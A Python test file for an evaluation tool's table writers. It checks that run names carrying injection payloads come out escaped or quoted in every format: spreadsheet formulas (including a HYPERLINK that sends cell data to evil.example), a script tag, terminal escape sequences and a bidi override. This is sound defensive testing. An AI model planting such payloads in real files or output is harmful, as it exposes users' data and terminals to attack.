"""The output layer (trec_eval_py.output.table): one table through every writer,
each read back with a parser of its format, and the attacks a run id or a
file name can carry (a spreadsheet formula, a date, HTML, a line break, a
terminal escape sequence)."""
from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from trec_eval_py.errors import UsageError
from trec_eval_py.output import table as tb
from trec_eval_py.output.table import Cell, Column, Raw, Table, _values, _writers, render

ESC_TITLE = "\x1b]0;pwned\x07"  # sets a terminal's window title
ESC_CLEAR = "\x1b[2J\x1b[H"  # clears the screen
ATTACKS = [
    "=1+41",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTAB",
    "\rCR",
    "3/3",
    "<script>alert(1)</script>",
    "<b>bold</b> & **stars** _under_ `tick` [link](x) #hash ~strike~ back\\slash",
    "line\nbreak | pipe",
    f"title{ESC_TITLE}clear{ESC_CLEAR}end",
    "bidi\u202eevil",
    "50% $x$ {y} ~ ^",
]


def sample() -> Table:
    cols = [Column("run", "text"), Column("map", "float", align="right"), Column("p", "pvalue", align="right"),
            Column("rel", "percent", signed=True, align="right", missing="-"),
            Column("W/T/L", "fraction", parts=("wins", "ties", "losses"), align="center"),
            Column("n", "int", align="right")]
    rows = []
    for i, name in enumerate(ATTACKS):
        rows.append([name, -0.25 + i / 10, 10.0 ** -i, None if i % 3 == 0 else i / 7, (i, 1, 3), i * 1000])
    rows.append([Cell("best", bold=True), Cell(0.75, bold=True, marks=("up",), sup="ab"), float("nan"), 0.1,
                 (3, 3, 3), 0])
    return Table(cols, rows, title="Runs <&> _t_", notes=["note * with | marks", "second\nnote"],
                 lead=["before the table"])


N = len(ATTACKS) + 1


def visible(s: str) -> str:
    """What a markup cell shows of ``s``: line breaks as spaces, other controls escaped."""
    return tb.clean(s.replace("\r\n", " ").replace("\n", " ").replace("\r", " "))


# ---------------------------------------------------------------- each writer, parsed back

def test_text_is_aligned_and_has_no_control_characters():
    out = render(sample(), "text")
    assert "\x1b" not in out and "\r" not in out and "\t" not in out and "\u202e" not in out
    assert all(ch == "\n" or ch.isprintable() for ch in out)
    lines = out.split("\n")[:-1]
    # title, lead, head, rows, two notes
    assert len(lines) == 1 + 1 + 1 + N + 2
    head, body = lines[2], lines[3:3 + N]
    assert head.split() == ["run", "map", "p", "rel", "W/T/L", "n"]
    # a right-aligned column ends where its head ends
    end = head.index("map") + len("map")
    for line, row in zip(body, sample().rows):
        value = "0.7500 \u2191^ab" if isinstance(row[1], Cell) else tb.float_text(row[1])
        assert line[end - len(value):end] == value
    # shown, not obeyed: every control character as a Python escape
    assert "title\\x1b]0;pwned\\x07clear\\x1b[2J\\x1b[Hend" in out
    assert "line\\x0abreak | pipe" in out and "bidi\\u202eevil" in out and "\\x09TAB" in out
    assert "0.7500 \u2191^ab" in out and "3/3/3" in out


class _Cells(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.rows, self.caption, self._cell, self._in_caption = [], [], "", None, False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag == "tr":
            self.rows.append([])
        elif tag in ("td", "th"):
            self._cell = ""
        elif tag == "caption":
            self._in_caption = True

    def handle_endtag(self, tag):
        if tag in ("td", "th"):
            self.rows[-1].append(self._cell)
            self._cell = None
        elif tag == "caption":
            self._in_caption = False

    def handle_data(self, data):
        if self._cell is not None:
            self._cell += data
        elif self._in_caption:
            self.caption += data


def test_html_page_and_fragment_are_escaped():
    page = render(sample(), "html")
    assert page.startswith("<!DOCTYPE html>\n") and '<meta charset="utf-8">' in page
    p = _Cells()
    p.feed(page)
    names = [t for t, _ in p.tags]
    assert "script" not in names and names.count("table") == 1 and names.count("i") == 0
    assert names.count("tr") == 1 + N and "thead" in names and "tbody" in names
    assert p.rows[0] == ["run", "map", "p", "rel", "W/T/L", "n"]
    assert [r[0] for r in p.rows[1:-1]] == [visible(a) for a in ATTACKS]  # every character of the name, as text
    assert p.rows[-1][:2] == ["best", "0.7500 \u2191ab"] and ("b", {}) in p.tags and ("sup", {}) in p.tags
    assert "Runs <&> _t_" in p.caption
    fragment = render(sample(), "html", fragment=True)
    assert fragment.startswith("<table") and "<html" not in fragment and fragment in page
    assert "\x1b" not in page and "\u202e" not in page


def test_markdown_rows_cannot_be_split_or_carry_html():
    out = render(sample(), "markdown")
    lines = out.split("\n")
    table = [ln for ln in lines if ln.startswith("|")]
    assert len(table) == 2 + N  # head, alignment, one line per row: no newline split a row
    assert table[1] == "|---|---:|---:|---:|:---:|---:|"
    for line in table:
        assert line.startswith("| ") or line.startswith("|-") or line.startswith("|:")
        # cells are separated by unescaped pipes only: every row has six cells
        cells = re.split(r"(?<!\\)\|", line)[1:-1]
        assert len(cells) == 6, line
    # no tag but the superscript the writer makes; no character GitHub would read as markup left bare
    assert re.findall(r"(?<!\\)<(\w+)", out) == ["sup"]
    body = "\n".join(table[2:])
    for ch in "*_`[]#~&>":
        assert re.search(r"(?<!\\)" + re.escape(ch), body.replace("**0.7500**", "").replace("**best**", "")
                         .replace("<sup>", "").replace("</sup>", "")) is None, ch
    assert "| =1+41 |" in out  # markdown is no spreadsheet: the text itself
    assert "line break \\| pipe" in out and "### Runs \\<\\&\\> \\_t\\_\n" in out
    assert "| **best** | **0.7500** \u2191<sup>ab</sup> |" in out
    assert "\x1b" not in out


def test_csv_is_spreadsheet_safe_and_reads_back():
    out = render(sample(), "csv")
    assert '"\'\rCR"' in out  # a carriage return is quoted too (Python's csv writer leaves it bare)
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[0] == ["run", "map", "p", "rel", "wins", "ties", "losses", "n"]
    assert len(rows) == 1 + N
    for row, name in zip(rows[1:], ATTACKS):
        cell = row[0]
        if name[0] in "=+-@\t\r":
            assert cell == "'" + name  # shown as text, never run as a formula
            assert tb.spreadsheet_text(cell) == name
        else:
            assert cell == name
        # numbers stay numbers, at full precision; a fraction is never written as 'a/b'
        float(row[1]), float(row[2]), int(row[7])
        assert all(re.fullmatch(r"\d+", x) for x in row[4:7])
    assert rows[1][1] == "-0.25"  # a negative number is a number, not a formula
    assert rows[1][3] == ""  # a missing value
    assert rows[-1][:3] == ["best", "0.75", "nan"]
    for row in rows[1:]:
        assert not any(re.fullmatch(r"\d+/\d+", c) for c in row[1:])


def test_tsv_is_tab_separated_and_spreadsheet_safe():
    out = render(sample(), "tsv")
    lines = out.split("\n")[:-1]
    assert len(lines) == 1 + N and all(ln.count("\t") == 7 for ln in lines)
    assert lines[0].split("\t") == ["run", "map", "p", "rel", "wins", "ties", "losses", "n"]
    assert lines[1].startswith("'=1+41\t-0.2500\t")
    assert lines[8].startswith("3/3\t")  # text as given; only fractions are split


def test_json_reads_back_with_every_value():
    rows = json.loads(render(sample(), "json"))
    assert len(rows) == N
    assert [r["run"] for r in rows[:-1]] == ATTACKS  # data keeps every character
    assert rows[0] == {"run": "=1+41", "map": -0.25, "p": 1.0, "rel": None, "wins": 0, "ties": 1, "losses": 3,
                       "n": 0}
    assert rows[-1]["p"] is None and rows[-1]["map"] == 0.75  # NaN is null; decoration dropped
    doc = json.loads(render([sample(), sample()], "json", intro=["x"]))
    assert len(doc["tables"]) == 2 and doc["tables"][0]["title"] == "Runs <&> _t_" and doc["intro"] == ["x"]


def test_latex_escapes_and_typesets():
    out = render(sample(), "latex", caption="A caption with 50% & _x_", label="tab:x y{}", digits=2)
    assert "\\begin{table}[t]" in out and "\\caption{A caption with 50\\% \\& \\_x\\_}" in out
    assert "\\label{tab:xy}" in out and "\\begin{tabular}{lrrrcr}" in out and "\\toprule" in out
    body = [ln for ln in out.splitlines() if ln.endswith("\\\\")]
    assert len(body) == 1 + N and all(ln.count(" & ") == 5 for ln in body)  # no '&' of a name splits a row
    assert "\\textless{}script\\textgreater{}" in out and "line break \\textbar{} pipe" in out
    assert "50\\% \\$x\\$ \\{y\\} \\textasciitilde{} \\textasciicircum{}" in out
    assert "back\\textbackslash{}slash" in out
    assert "\\textbf{0.75}$^{\\uparrow\\,\\mathrm{ab}}$" in out  # digits=2
    assert " & -- & " in out or "& --" in out  # a missing value is a dash
    assert "\x1b" not in out and "% Runs <&> _t_" in out and "% second note" in out
    raw = render(Table([Column(Raw("$\\Delta$"))], [[1.0]]), "latex")
    assert "\n$\\Delta$ \\\\\n" in raw and "\\begin{table}" not in raw


# ---------------------------------------------------------------- the vocabulary

def test_one_vocabulary():
    assert tb.check_format("md", tb.FORMATS) == "markdown" and tb.check_format("markdown", tb.FORMATS) == "markdown"
    assert tb.spellings(("text", "markdown", "csv")) == ["text", "markdown", "md", "csv"]
    assert tb.choices_text(("text", "markdown"), "text") == "text (default), markdown (or md)"
    with pytest.raises(UsageError, match=r"^unknown --format 'xml'; choose one of text, csv$"):
        tb.check_format("xml", ("text", "csv"))
    for fmt in tb.FORMATS:
        assert isinstance(render(sample(), fmt), str)
    assert render(sample(), "md") == render(sample(), "markdown")
    with pytest.raises(UsageError):
        render(sample(), "xml")


@pytest.mark.parametrize("fmt, opts, message", [
    ("text", dict(label="x"), "--label is for --format latex"),
    ("markdown", dict(caption="x"), "--caption is for --format latex or html"),
    ("csv", dict(digits=2), "--digits is for the formats people read"),
    ("latex", dict(digits=99), "between 0 and 15"),
])
def test_typesetting_options_only_where_they_apply(fmt, opts, message):
    with pytest.raises(UsageError, match=message):
        tb.check_typeset(fmt, **opts)
    tb.check_typeset("latex", caption="c", label="l", digits=2)
    tb.check_typeset("html", caption="c", digits=2)


def test_clean_shows_escape_sequences_and_controls_as_escapes():
    """The one rule of output.names.printable: nothing acts on a terminal, nothing is lost."""
    assert tb.clean("a\x1b[31mred\x1b[0m") == "a\\x1b[31mred\\x1b[0m"
    assert tb.clean("x\x1b]0;title\x07y") == "x\\x1b]0;title\\x07y"
    assert tb.clean("a\x00b\x7fc\x9bd\u2066e") == "a\\x00b\\x7fc\\x9bd\\u2066e"
    assert tb.clean("\udc9b") == "\\x9b"  # an undecodable byte
    assert tb.clean("new\nline\ttab") == "new\\x0aline\\x09tab"
    assert tb.clean("plain ü ✓") == "plain ü ✓"
    assert tb.markdown_escape("a\nb\x1b") == "a b\\\\x1b"  # markup: a line break is a space


def test_several_tables_are_sections_of_one_document():
    t = sample()
    text = render([t, t], "text", intro=["intro line"])
    assert text.startswith("intro line\n\nRuns <&> _t_\n") and text.count("\nRuns <&> _t_\n") == 2
    html = render([t, t], "html")
    assert html.count("<table") == 2 and html.count("<html") == 1
    md = render([t, t], "markdown")
    assert md.count("| run | map |") == 2
    assert render([t, t], "csv").count("run,map,p") == 2


# ---------------------------------------------------------------- the tsv's fast path


_TEXT = st.text(alphabet=st.sampled_from(list("ab1-=+@\t\n\x1b nafi.")), max_size=5)
_FLOAT = st.one_of(st.floats(allow_nan=True, allow_infinity=True, width=64), st.integers(-5, 5).map(float))
_KINDS = {"text": _TEXT, "int": st.integers(-10**6, 10**6), "float": _FLOAT,
          "shortest": st.floats(allow_nan=True, allow_infinity=True)}


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(sorted(_KINDS)), min_size=1, max_size=4).flatmap(
    lambda kinds: st.tuples(st.just(kinds), st.lists(
        st.tuples(*[st.one_of(_KINDS[k], st.none()) if k != "text" else _KINDS[k] for k in kinds]),
        min_size=1, max_size=6))))
def test_tsv_a_row_at_a_time_is_the_column_writer(case):
    """A plain table is written a row at a time with one format string (fast); whatever
    that path writes is what the column-wise writer writes, and it steps aside for
    anything it cannot write (a missing or non-finite value, a tab, a formula...)."""
    kinds, rows = case
    t = Table([Column(f"c{i}", k, nan="NaN" if k == "shortest" else None) for i, k in enumerate(kinds)], rows)
    fast = _writers._tsv_rows(t, 4)
    if fast is not None:
        texts, _, _ = _values._human(t, 4)
        cols = [tx if c.kind != "text" else [_writers._tsv_text(s) for s in tx] for c, tx in zip(t.columns, texts)]
        assert fast == "".join("\t".join(r) + "\n" for r in zip(*cols))


def test_tsv_fast_path_is_taken_for_plain_tables_only():
    cols = [Column("topic", "text"), Column("rank", "int"), Column("score", "shortest", nan="NaN"),
            Column("p", "float", digits=6)]
    plain = Table(cols, [("1", 1, 0.1, 0.5), ("2", 2, -3.0, 0.25)])
    assert _writers._tsv_rows(plain, 4) == "1\t1\t0.1\t0.500000\n2\t2\t-3.0\t0.250000\n"
    assert render(plain, "tsv") == "topic\trank\tscore\tp\n" + _writers._tsv_rows(plain, 4)
    for row in [("=1", 1, 0.1, 0.5), ("a\tb", 1, 0.1, 0.5), ("1", 1, float("nan"), 0.5), ("1", 1, 0.1, None),
                ("nan", 1, 0.1, 0.5), ("1", 1, 0.1, Cell(0.5, bold=True))]:
        t = Table(cols, [row])
        assert _writers._tsv_rows(t, 4) is None
        assert "\t" not in render(t, "tsv").splitlines()[1].split("\t")[0]
    assert render(Table(cols, [("=1", 1, float("nan"), 0.5)]), "tsv").splitlines()[1] == "'=1\t1\tNaN\t0.500000"


def test_a_p_value_below_the_floating_resolution_is_shown_as_a_bound():
    # a double near 1 resolves about 2.2e-16: a p of 0.0 (scipy's tail underflowing, 1 - cdf) or of 4e-21
    # means "below that" for every test alike, never 0.0e+00
    bound = f"< {tb.P_FLOOR:.0e}"
    assert bound == "< 1e-16"
    for p in (0.0, 4.2e-21, 5e-324, tb.P_FLOOR / 2):
        assert tb.pvalue_text(p) == bound
    assert tb.pvalue_text(tb.P_FLOOR) == "1.0e-16"
    assert tb.pvalue_text(2.5e-5) == "2.5e-05" and tb.pvalue_text(0.0188) == "0.0188"
    assert tb.pvalue_text(float("nan")) == "nan"
    t = Table([Column("p", "pvalue")], [[0.0]])
    assert bound in render(t, "text") and "0.0e+00" not in render(t, "text")
    assert r"\textless{} 1e-16" in render(t, "latex") and "&lt; 1e-16" in render(t, "html")
    assert json.loads(render(t, "json")) == [{"p": 0.0}]  # machines get the number itself
    assert render(t, "csv").splitlines()[1] == "0.0"
